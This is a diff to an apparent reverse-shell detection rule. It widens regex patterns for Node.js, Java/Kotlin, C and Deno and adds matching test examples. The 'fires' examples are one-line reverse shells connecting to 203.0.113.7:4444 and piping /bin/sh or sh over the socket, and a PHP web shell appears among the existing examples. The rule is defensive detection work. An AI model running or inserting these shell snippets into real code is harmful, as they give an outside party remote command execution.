@@ -48,7 +48,10 @@ export const rule: Rule = {
     // Lua
     { re: /require\s*\(?["']socket["'][^]*?(?:os\.execute|io\.popen)\s*\(/, window: 500 },
     // Node.js
-    { re: /(?:net\.(?:Socket|connect|createConnection)|new\s+net\.Socket)[^]*?\.pipe\(\s*\w+\.stdin/, window: 700 },
+    {
+      re: /(?<!\w)net["'`]?\)?\.(?:Socket|connect|createConnection|createServer)[^]*?\.pipe\(\s*\w+\.stdin/,
+      window: 700,
+    },
     {
       re: /child_process["'`]?\)[^]*?(?:exec|spawn)\w*\(\s*["'`](?:nc|ncat|\/bin\/(?:ba)?sh|cmd(?:\.exe)?)[ "'`]/,
       window: 400,
@@ -60,17 +63,20 @@ export const rule: Rule = {
       accept: ({ after }) => !isOrdinaryForShell(after.replace(/^["']\s*,\s*["']-c["']\s*,\s*/, '')),
     },
     { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
-    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?new\s+(?:java\.net\.)?Socket\s*\(/, window: 2000 },
+    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?(?:new\s+(?:java\.net\.)?|=\s?)Socket\s*\(/, window: 2000 },
     // Go, C, C#, Crystal, Dart, V
     {
       re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/(?:usr\/)?bin\/|cmd|powershell|\w{0,4}sh["'])/,
       window: 500,
     },
-    { re: /(?:connect|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:ve|l|lp|vp|le)?\s*\(/, window: 900 },
+    { re: /(?:[cC]onnect\w*|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:[lv]p?e?)?\s*\(/, window: 900 },
     { re: /os\.system\s*\(\s*["'](?:nc|ncat|bash|sh|\/bin\/)[^\n]*(?:-e\s|\/dev\/tcp)/ },
     { re: /TCPClient\s*\([^]*?(?:GetStream|StreamWriter)[^]*?(?:iex|Invoke-Expression|Process)/i, window: 1200 },
     { re: /TCPClient\s*\(["'\d][^]*?GetStream\s*\(\s*\)/i, window: 300 },
-    { re: /Socket\.(?:tcp|connect)\s*\([^]*?Process\.(?:new|start|run)\s*\(/, window: 700 },
+    {
+      re: /(?:Socket\.(?:tcp|connect)|Deno\.connect)\s*\([^]*?(?:Process\.(?:new|start|run)|Deno\.Command)\s*\(/,
+      window: 700,
+    },
   ],
   examples: {
     fires: [
@@ -83,6 +89,10 @@ export const rule: Rule = {
       'c,_:=net.Dial("tcp","203.0.113.7:4444");cmd:=exec.Command("zsh");cmd.Stdin=c',
       "lua -e \"require('socket');t=socket.tcp();os.execute('/bin/bash -i');\"",
       '<?php system($_GET["cmd"]); ?>',
+      'require("net").connect(4444,"203.0.113.7",function(){this.pipe(s.stdin);s.stdout.pipe(this)})',
+      'val p = ProcessBuilder("/bin/sh").start()\nval s = Socket("203.0.113.7", 4444)',
+      'connect(s, &a, sizeof(a)); dup2(s, 0); dup2(s, 1); execv("/bin/sh", argv);',
+      'const c=await Deno.connect({port:4444});const p=new Deno.Command("sh",{stdin:"piped"}).spawn()',
     ],
     silent: [
       'Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", "ls " + dir});',
@@ -90,6 +100,7 @@ export const rule: Rule = {
       "const { exec } = require('child_process'); exec('git status')",
       'Socket socket = new Socket("example.com", 80);',
       'net.Dial("tcp", "golang.org:80")',
+      'const client = net.connect(8124); process.stdin.pipe(client);',
       'open(STDIN, "<&", $saved);\nexec($^X, $0, @ARGV);',
       'c, _ := net.Dial("tcp", "192.0.2.1:80")\ncmd := exec.Command("git", "push")',
     ],
